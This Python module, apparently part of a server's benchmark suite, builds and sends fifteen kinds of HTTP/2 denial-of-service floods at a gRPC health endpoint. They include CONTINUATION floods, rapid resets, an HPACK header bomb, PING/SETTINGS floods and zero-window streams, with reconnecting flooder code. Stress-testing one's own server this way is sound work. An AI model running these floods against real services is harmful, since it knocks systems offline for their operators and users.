"""Floods of HTTP/2 frames: each connection sends its opening, then the same frames without end.

A flooder reads what the server sends, unless the flood says otherwise. A connection that the server closes is replaced.
"""

from __future__ import annotations

import asyncio
import struct
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from typing import NamedTuple

import hpack

from benchmarks.http2 import framed, opening

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ADDRESS = "127.0.0.66"
CONNECTIONS = 2
AT_ONCE = 500  # frames, or groups of them, in one write
PAUSE_S = 0.5  # after a refused connection


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def begun(block: bytes, stream: int, *, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block)


def block_of(path: str, *more: tuple[str, str]) -> bytes:
    """A header block that changes no table, so it can be sent on any stream."""
    fields = [hpack.NeverIndexedHeaderTuple(*each) for each in (*opening(path), *more)]
    return hpack.Encoder().encode(fields)


class Flood(NamedTuple):
    """What one connection sends. `repeated` gets the number of the frame, or of the group of frames."""

    title: str
    opening: Callable[[], bytes]
    repeated: Callable[[int], bytes]
    per_s: int = 1_000_000  # how often `repeated` is sent at most
    count_max: int = 1 << 28  # how often altogether, on one connection; then it stays open
    settings: tuple[tuple[int, int], ...] = ()
    connections: int = CONNECTIONS
    reads: bool = True


def _nothing() -> bytes:
    return b""


def _stream_id(number: int) -> int:
    return 2 * number + 1


def _watches(count: int) -> Callable[[], bytes]:
    """So many health streams whose requests never end."""

    def make() -> bytes:
        block = block_of(WATCH)
        return b"".join(begun(block, _stream_id(number)) for number in range(count))

    return make


def _each_stream(block: bytes, *frames: tuple[int, int, bytes]) -> Callable[[int], bytes]:
    """A new stream with these frames: kind, flags, payload."""

    def make(number: int) -> bytes:
        stream = _stream_id(number)
        return begun(block, stream) + b"".join(frame(kind, flags, stream, payload) for kind, flags, payload in frames)

    return make


def _toggled_windows(number: int) -> bytes:
    """As many changes of the streams' first window as one frame can carry."""
    pair = struct.pack(">HIHI", INITIAL_WINDOW_SIZE, 1, INITIAL_WINDOW_SIZE, 65_535)
    return frame(SETTINGS, 0, 0, pair * 1_300)


def _bomb_opening() -> bytes:
    """A request that puts a field of 4,000 bytes into the table."""
    named = hpack.Encoder().encode([*opening(CHECK), ("x-bomb", "b" * 3_900)])
    return begun(named, 1, flags=END_HEADERS | END_STREAM)


def _bomb(number: int) -> bytes:
    """A request that names the newest field of the table 16,000 times."""
    return begun(b"\xbe" * 16_000, _stream_id(number + 1), flags=END_HEADERS | END_STREAM)


def _small_data(number: int) -> bytes:
    """Two bytes for one of a thousand streams."""
    return frame(DATA, 0, _stream_id(number % 1_000), b"\0\0")


def _drips(number: int) -> bytes:
    """One more byte for the whole connection."""
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


_REQUEST = (DATA, END_STREAM, framed(0))
_CANCEL = struct.pack(">I", 8)
_NO_WINDOW = ((INITIAL_WINDOW_SIZE, 0),)

FLOODS: dict[str, Flood] = {
    "continuations": Flood(
        "a header block that never ends, in empty frames",
        lambda: begun(block_of(CHECK), 1, flags=0),
        lambda _: frame(CONTINUATION, 0, 1),
    ),
    "continued": Flood("headers that come in 20 frames each", _nothing, lambda number: _continued(number)),
    "settings_frames": Flood("SETTINGS frames as fast as they go", _nothing, lambda _: frame(SETTINGS, 0, 0)),
    "window_settings": Flood(
        "SETTINGS that change the windows of 900 streams, 2,600 times a frame", _watches(900), _toggled_windows
    ),
    "pings": Flood(
        "PING frames as fast as they go", _nothing, lambda number: frame(PING, 0, 0, number.to_bytes(8, "big"))
    ),
    "unread_pings": Flood(
        "the same, and the answers are not read",
        _nothing,
        lambda number: frame(PING, 0, 0, number.to_bytes(8, "big")),
        reads=False,
    ),
    "empty_data": Flood("DATA frames without data", _watches(1), lambda _: frame(DATA, 0, 1)),
    "small_data": Flood("DATA frames of 2 bytes on 1,000 streams", _watches(1_000), _small_data),
    "windows": Flood("WINDOW_UPDATE frames of one byte on 900 streams", _watches(900), lambda number: _window(number)),
    "bombs": Flood("header blocks that name a field of 3,900 bytes 16,000 times", _bomb_opening, _bomb),
    "no_window": Flood(
        "health checks without a window for the answer",
        _nothing,
        _each_stream(block_of(CHECK), _REQUEST),
        settings=_NO_WINDOW,
        reads=False,
    ),
    "half_open": Flood(
        "10,000 calls on each of 8 connections whose requests never come",
        _nothing,
        _each_stream(block_of(CHECK)),
        count_max=10_000,
        connections=8,
    ),
    "priorities": Flood(
        "PRIORITY frames as fast as they go",
        _nothing,
        lambda number: frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 9)),
    ),
    "resets": Flood(
        "80,000 stream resets a second on two connections",
        _nothing,
        _each_stream(block_of(WATCH), (RST_STREAM, 0, _CANCEL)),
        per_s=40_000,
    ),
    "made_resets": Flood(
        "calls that the client makes the server reset",
        _nothing,
        _each_stream(block_of(CHECK), (WINDOW_UPDATE, 0, bytes(4))),
    ),
}


def _continued(number: int) -> bytes:
    """A request whose headers come in 20 frames."""
    block, stream = block_of(CHECK), _stream_id(number)
    parts = [block[each : each + 5] for each in range(0, 95, 5)]
    middle = b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[1:])
    return begun(parts[0], stream, flags=END_STREAM) + middle + frame(CONTINUATION, END_HEADERS, stream, block[95:])


def _window(number: int) -> bytes:
    """One more byte for a stream and for the whole connection."""
    return frame(WINDOW_UPDATE, 0, _stream_id(number % 900), struct.pack(">I", 1)) + _drips(number)


class Flooder:
    """The connections of one flood."""

    def __init__(self, endpoint: str, flood: Flood, counted: Counter[str]) -> None:
        self._endpoint = endpoint
        self._flood = flood
        self._counted = counted

    async def run(self, until: float) -> None:
        """Flood until this moment of `time.monotonic()`."""
        await asyncio.gather(*(self._keep_connected(until) for _ in range(self._flood.connections)))

    async def _keep_connected(self, until: float) -> None:
        host, _, port = self._endpoint.rpartition(":")
        while time.monotonic() < until:
            try:
                reader, writer = await asyncio.open_connection(host, int(port), local_addr=(ADDRESS, 0))
            except OSError:
                self._counted["NO CONNECTION"] += 1
                await asyncio.sleep(PAUSE_S)
                continue
            self._counted["CONNECTIONS"] += 1
            reading = asyncio.create_task(self._read(reader))
            with suppress(OSError):
                await self._flow(writer, reading, until)
            reading.cancel()
            writer.transport.abort()

    async def _read(self, reader: asyncio.StreamReader) -> None:
        """Read to the end, or do not read at all."""
        if not self._flood.reads:
            await asyncio.Event().wait()
        with suppress(OSError):
            while await reader.read(1 << 16):
                pass

    async def _flow(self, writer: asyncio.StreamWriter, reading: asyncio.Task[None], until: float) -> None:
        flood, since, sent = self._flood, time.monotonic(), 0
        settings = b"".join(struct.pack(">HI", *each) for each in flood.settings)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + flood.opening())
        while (now := time.monotonic()) < until and not (reading.done() or writer.transport.is_closing()):
            due = min(int((now - since) * flood.per_s) - sent, AT_ONCE, flood.count_max - sent)
            if due > 0:
                writer.write(b"".join(map(flood.repeated, range(sent, sent + due))))
                sent += due
                self._counted["FRAMES"] += due
            async with asyncio.timeout(max(0.01, until - now)):
                await writer.drain()
            await asyncio.sleep(0 if due == AT_ONCE else 0.002)
